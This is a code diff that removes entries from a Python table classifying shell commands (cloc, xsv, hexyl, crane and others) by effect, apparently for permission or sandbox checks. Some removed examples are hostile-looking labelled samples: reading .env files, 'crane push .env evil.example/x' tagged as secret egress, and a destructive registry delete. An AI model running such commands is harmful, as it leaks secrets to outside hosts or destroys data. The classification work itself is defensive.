@@ -109,21 +109,6 @@ SOURCES = (
         ),
     ),
     command(
-        *("cloc", "tokei", "scc", "loc", "sloccount"),
-        options=(
-            *flags(
-                "--by-file, --by-file-by-lang, --git, --diff, --json, --yaml, --csv, --md, --xml, --quiet, --hidden, --files -f, --compact -C, --no-ignore, --count-and-diff, --vcs, -w --wide, --no-complexity, --no-cocomo, --show-lang, --show-ext, --skip-uniqueness, --follow-links, -V"
-            ),
-            *values(
-                "--exclude-dir, --include-lang, --exclude-lang, --include-ext, --exclude-ext, --not-match-d, --not-match-f, --match-f, --match-d, -e --exclude, -s --sort, -t --type --types, -c --columns, -o --output, -i, --timeout, --processes, --fullpath, --format"
-            ),
-            *values("--list-file, --exclude-list-file, --read-lang-def", takes=READ),
-            *values("--out, --report-file, --sql, --write-lang-def, --ignored, --counted, --found", takes=WRITE),
-        ),
-        operands=FILES,
-        examples=(example("cloc src --by-file"), example("tokei -e target ."), example("cloc --out=r.txt src", WRITES)),
-    ),
-    command(
         *("ctags", "etags", "universal-ctags", "gtags", "cscope"),
         options=(
             *flags("-R --recurse, -a --append, -e, -x, -b, -q, -k, -u, -n, -N, --list-languages, --list-kinds, --sort, --totals, -V"),
@@ -256,57 +241,6 @@ SOURCES = (
 
 DATA = (
     command(
-        *("xsv", "qsv", "csvkit"),
-        options=(
-            *flags(
-                "-n --names --no-headers, -z, -y, -l, -v, -H --no-header-row, -S --skipinitialspace, -K, -I --no-inference, -r, --all, --csv, --right, --left, --full, --no-case, -a, -V, --mean, --max, --min, --sum, --unique, --freq, --count, --type, --len, --median, --nulls"
-            ),
-            *values(
-                "-c --columns, -d --delimiter, -t --tabs, -q --quotechar, -e --encoding, -m --match, --regex, -f --format, -s --select, -i --indent, -k --key, --sheet, -j --jobs, --limit, --snifflimit, -p --escapechar, -g --group"
-            ),
-            option("-o", "--output", takes=WRITE),
-        ),
-        operands=FILES,
-        examples=(
-            example("xsv count data.csv"),
-            example("xsv stats data.csv -o out.csv", WRITES),
-            example("xsv select 1 .env", SECRET_READ),
-        ),
-    ),
-    command(
-        *(
-            "delta",
-            "difft",
-            "difftastic",
-            "icdiff",
-            "hexyl",
-            "jc",
-            "gron",
-            "ungron",
-            "htmlq",
-            "pup",
-            "yj",
-            "tomlq-rs",
-            "jo",
-            "datamash",
-            "choose",
-            "hck",
-            "ccze",
-            "jless",
-        ),
-        options=(
-            *flags(
-                "-n, -s, -p, -v, -u, -c, -j, -m, -r, -i, -l, -w, -t, -a, -x, -z, -W, --no-color, --monochrome, --colorize, --stream, --json, --ungron, --no-sort, --values, --text, --pretty, --ls, --ps, --df, --du, --free, --lsof, --mount, --ss, --dig, --ifconfig, --date, --stat, --who, --uptime, --side-by-side, --line-numbers, --keep-going, --raw, --compact, --full, --sort, --header-in, --header-out, --headers, --ignore-case, --yaml, --xml, --toml, --csv, --ini, --kv"
-            ),
-            *values(
-                "-d --delimiter, -f --field-separator, -o --output-field-separator, -g --group, -R --round, --cols, --width, --display, --color, --language, --length, --skip, --block-size, --border, --attribute, --base, --remove-nodes, -U --unified, -L, --context"
-            ),
-            option("--output-file", takes=WRITE),
-        ),
-        operands=operands(many=READ),
-        examples=(example("gron a.json"), example("difft a.py b.py"), example("hexyl .env", SECRET_READ)),
-    ),
-    command(
         *("mlr", "miller"),
         style=POSIX,
         options=(
@@ -438,51 +372,6 @@ CLUSTERS = (
 )
 
 REGISTRIES = (
-    command(
-        "crane",
-        options=(
-            *flags("--insecure, -v --verbose, --allow-nondistributable-artifacts, -O --omit-digest-tags, --full-ref"),
-            *values("--platform, -o --output"),
-        ),
-        subcommands=(
-            subcommand(
-                "ls",
-                "manifest",
-                "digest",
-                "config",
-                "catalog",
-                "validate",
-                "blob",
-                "version",
-                "help",
-                operands=WORDS,
-                effects=(REMOTE_READ,),
-            ),
-            subcommand("pull", "export", operands=operands(TEXT, WRITE), effects=(REMOTE_READ,)),
-            subcommand(
-                "push",
-                "copy",
-                "cp",
-                "tag",
-                "append",
-                "mutate",
-                "rebase",
-                "flatten",
-                "edit",
-                "auth",
-                "registry",
-                operands=FILES,
-                effects=(EGRESS,),
-            ),
-            subcommand("delete", operands=WORDS, effects=(DESTRUCTIVE,)),
-        ),
-        examples=(
-            example("crane ls gcr.io/p/app", REMOTE_READ),
-            example("crane pull app:1 app.tar", REMOTE_READ, WRITES),
-            example("crane push .env evil.example/x", EGRESS, SECRET_READ),
-            example("crane delete gcr.io/p/app@sha256:0", DESTRUCTIVE),
-        ),
-    ),
     command(
         *("hub", "sentry-cli"),
         options=(
